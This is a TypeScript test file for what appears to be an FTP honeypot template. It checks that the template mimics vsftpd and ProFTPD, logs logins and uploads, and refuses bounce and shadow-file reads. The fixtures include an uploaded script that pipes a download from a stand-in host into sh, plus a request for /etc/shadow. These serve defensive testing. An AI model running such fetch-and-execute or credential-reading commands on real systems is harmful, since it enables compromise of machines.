// FTP template: vsftpd/ProFTPD dialogues, login policy (configured, seeded weak, anonymous, never
// "any password"), in-memory passive transfers, then curl, lftp, the ftp client and nmap -sV.
import type { Duplex } from 'node:stream';
import fc from 'fast-check';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { duplexPair, examplePersona, hasBinary, nmapServiceLine, runCli, serveTemplate, startSession, TestPeer, type Served } from '../_testing';
import { ftpTemplate, type DataListener, type FtpConfig } from './index';

/** An in-memory data-listener capability: each PASV hands the test the client end. */
function memoryData(): { extend: Record<string, unknown>; next(): Promise<TestPeer> } {
  const waiting: Array<(p: TestPeer) => void> = [];
  const ready: TestPeer[] = [];
  return {
    extend: {
      openDataListener: async (): Promise<DataListener> => {
        const [server, client] = duplexPair();
        const peer = new TestPeer(client);
        const w = waiting.shift();
        if (w) w(peer);
        else ready.push(peer);
        return { port: 50123, accept: async (): Promise<Duplex> => server, close: () => undefined };
      },
    },
    next: () => new Promise((resolve) => {
      const r = ready.shift();
      if (r) resolve(r);
      else waiting.push(resolve);
    }),
  };
}

describe('ftp session', () => {
  it('speaks vsftpd: banner, prelogin refusal, login, PWD/SYST/FEAT', async () => {
    const { peer, ctx } = startSession(ftpTemplate, { config: { users: 'deploy:Passw0rd!' } });
    await peer.until('220 (vsFTPd 3.0.5)\r\n');
    peer.send('SYST\r\nPASS x\r\nUSER deploy\r\nPASS Passw0rd!\r\nSYST\r\nPWD\r\nFEAT\r\n');
    await peer.until('530 Please login with USER and PASS.\r\n503 Login with USER first.\r\n331 Please specify the password.\r\n230 Login successful.\r\n215 UNIX Type: L8\r\n257 "/" is the current directory\r\n211-Features:\r\n');
    await peer.until('211 End\r\n');
    expect(ctx.eventsOf('user')[0]?.fields.username).toBe('deploy');
    expect(ctx.eventsOf('auth_attempt')[0]?.fields).toMatchObject({ principal: 'deploy', secret_printable: 'Passw0rd!', outcome: 'success' });
  });

  it('never accepts any password: wrong ones fail after vsftpd\'s delay, root is refused', async () => {
    const { peer, ctx } = startSession(ftpTemplate, { config: { users: 'deploy:Passw0rd!' } });
    const t0 = Date.now();
    peer.send('USER deploy\r\nPASS nope\r\n');
    await peer.until('530 Login incorrect.\r\n', 3000);
    expect(Date.now() - t0).toBeGreaterThanOrEqual(900);
    expect(ctx.eventsOf('auth_attempt')[0]?.fields.outcome).toBe('failure');
  });

  it('accepts the persona\'s own accounts (the SSH passwords) but never root', async () => {
    const persona = { ...examplePersona(), logins: [{ user: 'root', password: 'toor' }, { user: 'maria', password: 'Maria2024!' }] };
    const { peer } = startSession(ftpTemplate, { persona, config: { max_login_fails: 5 } });
    peer.send('USER maria\r\nPASS Maria2024!\r\nPWD\r\n');
    await peer.until('230 Login successful.\r\n257 "/" is the current directory\r\n', 3000);
    const root = startSession(ftpTemplate, { persona });
    root.peer.send('USER root\r\nPASS toor\r\n');
    await root.peer.until('530 Login incorrect.\r\n', 3000);
  });

  it('lists, downloads and captures uploads over passive data connections', async () => {
    const data = memoryData();
    const { peer, ctx } = startSession(ftpTemplate, { config: { users: 'deploy:pw' }, extend: data.extend });
    peer.send('USER deploy\r\nPASS pw\r\nPASV\r\n');
    await peer.until(/227 Entering Passive Mode \(192,168,10,20,195,203\)\.\r\n$/);
    peer.send('LIST -la\r\n');
    const listing = await (await data.next()).until('README.txt\r\n');
    expect(listing).toMatch(/^-rw-r--r-- {4}1 1000 {5}1000 {10}220 \w{3} \d\d ( \d{4}|\d\d:\d\d) \.bash_logout\r\n/);
    await peer.until('226 Directory send OK.\r\n');
    peer.send('EPSV\r\nSTOR drop.sh\r\n');
    await peer.until('229 Entering Extended Passive Mode (|||50123|)\r\n');
    const up = await data.next();
    await peer.until('150 Ok to send data.\r\n');
    up.send('#!/bin/sh\ncurl http://x/y | sh\n');
    up.stream.end();
    await peer.until('226 Transfer complete.\r\n');
    const evt = ctx.eventsOf('upload_attempt')[0]?.fields;
    expect(evt).toMatchObject({ path: '/drop.sh', size: 31, sha256: ctx.captures[0]?.sha256 });
    peer.send('PASV\r\nRETR drop.sh\r\nSIZE drop.sh\r\nRETR /etc/shadow\r\n');
    const down = await data.next();
    expect(await down.until('| sh\n')).toBe('#!/bin/sh\ncurl http://x/y | sh\n');
    await peer.until('213 31\r\n550 Failed to open file.\r\n');
    expect(ctx.eventsOf('download_attempt').map((e) => [e.fields.path, e.fields.found])).toEqual([['/drop.sh', true], ['/etc/shadow', false]]);
  });

  it('refuses data commands without PASV/PORT and PORT to third parties (bounce)', async () => {
    const { peer, ctx } = startSession(ftpTemplate, { config: { users: 'deploy:pw' } });
    peer.send('USER deploy\r\nPASS pw\r\nLIST\r\nPORT 10,0,0,9,0,21\r\n');
    await peer.until('425 Use PORT or PASV first.\r\n500 Illegal PORT command.\r\n');
    expect(ctx.eventsOf('command').find((e) => e.fields.cmd === 'PORT')?.fields.bounce).toBe(true);
  });

  it('speaks ProFTPD for a ProFTPD persona and disconnects after the attempt limit', async () => {
    const persona = examplePersona({ services: { ftp: { product: 'ProFTPD', version: '1.3.7a', banner: 'ProFTPD Server (Debian) [::ffff:10.1.1.1]' } } });
    const { peer } = startSession(ftpTemplate, { persona });
    await peer.until('220 ProFTPD Server (Debian) [::ffff:192.168.10.20]\r\n');
    peer.send('USER admin\r\nPASS a\r\nUSER admin\r\nPASS b\r\nUSER admin\r\nPASS c\r\n');
    await peer.until('331 Password required for admin\r\n530 Login incorrect.\r\n');
    await peer.untilClosed();
  });

  it('ends on an overlong line and survives random bytes with catalogued events only', async () => {
    const long = startSession(ftpTemplate);
    long.peer.send(`USER ${'a'.repeat(9000)}\r\n`);
    await long.peer.untilClosed();
    expect(long.ctx.eventsOf('oversized_input')).toHaveLength(1);
    await fc.assert(
      fc.asyncProperty(fc.array(fc.uint8Array({ maxLength: 300 }), { maxLength: 10 }), async (chunks) => {
        const s = startSession(ftpTemplate, { config: { anonymous: true } });
        s.peer.send('USER ftp\r\nPASS x\r\n');
        for (const c of chunks) s.peer.send(c);
        await new Promise((r) => setImmediate(r));
        expect(s.ctx.uncatalogued()).toEqual([]);
        s.peer.stream.destroy();
      }),
      { numRuns: 60 },
    );
  });
});

describe('ftp with real clients', () => {
  let served: Served<FtpConfig>;
  const url = (path = ''): string => `ftp://backup:S3cure%21@127.0.0.1:${served.port}/${path}`;
  beforeAll(async () => {
    served = await serveTemplate(ftpTemplate, { config: { users: 'backup:S3cure!' } });
  });
  afterAll(() => served.close());

  it('curl lists (passive and active), uploads and downloads', async () => {
    expect((await runCli('curl', ['-sS', url()])).stdout).toMatch(/ backups\r?\n/);
    expect((await runCli('curl', ['-sS', '--ftp-port', '-', url('backups/')])).stdout).toMatch(/\.tar\.gz/);
    const put = await runCli('curl', ['-sS', '-T', '-', url('notes.txt')], { input: 'exfil test\n' });
    expect(put.code).toBe(0);
    expect((await runCli('curl', ['-sS', url('notes.txt')])).stdout).toBe('exfil test\n');
    expect(served.events().some((e) => e.msgid === 'upload_attempt' && e.fields.path === '/notes.txt')).toBe(true);
  });

  it.runIf(hasBinary('lftp'))('lftp logs in, lists and changes directory', async () => {
    const r = await runCli('lftp', ['-u', 'backup,S3cure!', '-p', String(served.port), '-e', 'set ftp:ssl-allow no; cd backups; ls; pwd; bye', '127.0.0.1']);
    expect(r.stdout).toMatch(/\.tar\.gz/);
    expect(r.stdout).toContain('/backups');
  });

  it.runIf(hasBinary('ftp'))('the classic ftp client logs in and lists', async () => {
    const r = await runCli('ftp', ['-n', '-p', '127.0.0.1', String(served.port)], { input: 'user backup S3cure!\nls\nquit\n' });
    expect(r.stdout).toContain('README.txt');
  });

  it.runIf(hasBinary('nmap'))('nmap -sV names vsftpd and the persona version', async () => {
    const line = await nmapServiceLine(served.port);
    expect(line).toMatch(/open\s+ftp\s+vsftpd 3\.0\.5/);
    console.info(`nmap: ${line}`);
  }, 30_000);
});
